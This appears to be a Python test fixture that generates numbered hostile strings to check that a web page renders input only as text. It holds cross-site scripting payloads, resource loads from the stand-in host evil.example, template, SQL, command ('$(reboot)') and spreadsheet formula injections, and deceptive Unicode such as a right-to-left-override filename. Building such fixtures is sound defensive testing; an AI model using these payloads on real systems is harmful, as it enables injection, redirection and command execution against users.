"""Several hundred texts that would do harm if a page treated them as anything but text.

Any script in them sets `window.__pwned`; any resource in them would be loaded from evil.example.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import count

_RUN = "window.__pwned=1"
_WAYS_OUT = ("", '">', "'>", "--></style>", "]]>", "</title>", "</textarea>", "</script>", "</select>", "</table>")
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    "<iframe src=javascript:parent.__pwned=1>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mi xlink:href=javascript:{_RUN}>x",
    f"<a href=javascript:{_RUN}>x</a>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x></object>",
    "<form action=//evil.example><button>x</button>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    f"<b hx-on:htmx:load={_RUN} id=live data-live=1>x</b>",
    f"<template shadowrootmode=open><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "<dialog open id=dialog>x</dialog>",
)
_ATTRIBUTES = (
    f"autofocus onfocus={_RUN} tabindex=1",
    f"onmouseover={_RUN}",
    "style=background:url(//evil.example/x)",
    "hx-get=//evil.example hx-trigger=load",
    f"hx-on:click={_RUN}",
    "data-open=//evil.example data-dialog",
    "formaction=//evil.example",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example",
    "https://evil.example/",
    "/\\evil.example",
    "../../../console/sign-out",
)
_LANGUAGES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ request.session.csrf }}",
    "{{ ''.__class__.__mro__ }}",
    "{# #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "%s%n%x",
    "{0.__class__}",
    "$(reboot)",
    "`reboot`",
    "; reboot #",
    "' OR 1=1 --",
    "%' OR '%'='",
    '=HYPERLINK("//evil.example")',
    "@SUM(1)",
    "+1",
    "-1",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "\\u003cscript\\u003e",
    '"}</script>',
    '\\"',
    "\\\\",
    "*/alert(1)/*",
    "<!--",
    "-->",
    "<![CDATA[",
    "<?php",
)
_NOTHINGS = ("null", "None", "undefined", "NaN", "true", "false", "[]", "{}", "0", "-0", "[object Object]", "\u202e")
_LETTERS = (
    "a\u202efdp.exe",
    "a\u2066b\u2069c",
    "\u05d9\u05e9\u05e8\u05d0\u05dc",
    "\u0645\u0631\u062d\u0628\u0627",
    "a\u200bb\u200cc\u200dd",
    "\ufeffa",
    "e" + "\u0301" * 60,
    "👩\u200d👩\u200d👧\u200d👦🏴",
    "\u0430dmin",
    "𝒟𝑜𝑜𝓇",
    "ﷺ" * 20,
    "a b c",
    "a\x01b\x02c\x1b[31mred",
    "a\x7fb\x80c\x9f",
    "a\nb\r\nc\td",
    "a\x0bb\x0cc",
    "\ufffe\uffff",
    "\ufffd",
    "ǅ İ ß ﬃ",
    "W" * 90,
    "a" * 45 + "\u00ad" + "b" * 45,
    "." * 90,
)


def _all() -> Iterator[str]:
    for element in _ELEMENTS:
        yield from (f"{way_out}{element}" for way_out in _WAYS_OUT)
    for attribute in _ATTRIBUTES:
        yield from (f"{mark} {attribute} {mark}" for mark in ('"', "'", "`", "", '\\"'))
    yield from (*_ADDRESSES, *_LANGUAGES, *_NOTHINGS, *_LETTERS)


def _numbered(texts: Iterable[str]) -> tuple[str, ...]:
    """Number the texts, so that a test can tell which one it saw."""
    numbers = count(1)
    return tuple(f"{text}¶{next(numbers)}" for text in texts)


HOSTILE = _numbered(_all())


def packed(length_max: int, texts: Iterable[str] = HOSTILE) -> list[str]:
    """Join all texts, in order, into as few strings of this length as possible."""
    packs = [""]
    for text in texts:
        if len(packs[-1]) + len(text) > length_max:
            packs.append("")
        packs[-1] += text
    return packs


def printable_ascii(texts: Iterable[str] = HOSTILE) -> list[str]:
    """The texts that machine-read fields accept: codes, keys, headers."""
    plain = (text.replace("¶", "~") for text in texts)
    return [text for text in plain if text.isascii() and text.isprintable()]
